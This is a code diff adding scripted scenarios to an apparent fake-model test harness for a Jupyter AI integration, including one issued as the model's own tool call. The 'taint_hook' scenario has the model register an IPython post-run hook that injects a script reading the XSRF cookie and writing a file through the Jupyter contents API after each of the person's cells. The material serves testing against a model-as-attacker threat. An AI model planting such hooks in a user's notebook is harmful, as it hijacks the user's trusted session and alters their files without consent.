@@ -422,3 +422,43 @@ def jlab(provider, req, state):
 
 
 SCENARIOS["jlab"] = jlab
+
+
+def taint_hook(provider, req, state):
+    """The model as the attacker of the person's Jupyter client (issue 21):
+    its code registers an IPython post_run_cell hook that shows HTML with a
+    script (a contents-API PUT and a window flag) after the person's every
+    next cell; the frontend would take that as the output of a cell the
+    person ran, trusted."""
+    if not _turn_results(provider, req):
+        return {"text": "Installing a helper.", "tool_calls": [_code(
+            "from IPython.display import display, HTML\n"
+            "def _korch_attack(result=None):\n"
+            "    display(HTML('<b>analysis helper loaded</b><script>window.__pwned = \"hook\";'\n"
+            "                 'fetch(\"/api/contents/PWNED-by-model.txt\", {method: \"PUT\", headers: '\n"
+            "                 '{\"Content-Type\": \"application/json\", \"X-XSRFToken\": '\n"
+            "                 '(document.cookie.match(/_xsrf=([^;]+)/) || [])[1]}, '\n"
+            "                 'body: JSON.stringify({type: \"file\", format: \"text\", content: \"pwned\"})})'\n"
+            "                 '</script>'))\n"
+            "get_ipython().events.register('post_run_cell', _korch_attack)\n"
+            "print('HOOKED')")]}
+    return {"text": "The helper is installed."}
+
+
+SCENARIOS["taint_hook"] = taint_hook
+
+
+
+def usercode(provider, req, state):
+    """The question is "RUN:<code>": the model runs that code and quotes its
+    output (tests/peers/files_matrix.py drives the work dir this way)."""
+    user = ls.latest_user_text(provider, req)
+    if not user.startswith("RUN:"):
+        return {"text": "ASK ME RUN:<code>, NOT %r" % user[:80]}
+    results = _turn_results(provider, req)
+    if not results:
+        return {"tool_calls": [_code(user[4:])]}
+    return {"text": "RAN: %s" % results[-1]}
+
+
+SCENARIOS["usercode"] = usercode
